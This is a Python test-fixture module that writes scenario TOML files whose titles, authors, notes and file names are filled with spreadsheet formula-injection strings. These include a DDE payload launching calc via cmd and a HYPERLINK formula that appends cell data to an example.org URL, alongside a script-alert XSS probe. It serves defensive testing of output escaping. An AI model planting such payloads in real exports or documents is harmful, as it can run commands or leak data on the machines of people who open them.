"""What people may write into titles, names and remarks so that other programs do something with it."""

from pathlib import Path
from typing import Final

from scenarios.scenario import Scenario
from scenarios.storage.files import save

FORMULAS: Final = (
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "x;=1+1",
    "'=1+1",
)

MARKUP: Final = (
    '<b>bold</b> <img src="http://example.org/x.png"> &amp; <script>alert(1)</script> **stars** [a](http://b)'
)

SIGNS: Final = ("=", "+", "-", "@", "\t", "\r")


def hostile_files(folder: Path) -> list[Path]:
    """Scenario files whose titles, authors, remarks and names are formulas, all different from the official one."""
    folder.mkdir(exist_ok=True)
    made = []
    for number, text in enumerate(FORMULAS):
        path = folder / f"{'=+-@'[number % 4]}{number}.toml"
        scenario = Scenario(text, author=text, description=f"{text}\n{text}", notes={"budget.it_industry": text})
        save(path, scenario.with_value("budget", "it_industry", 2027, 900 + number))
        made.append(path)
    return made
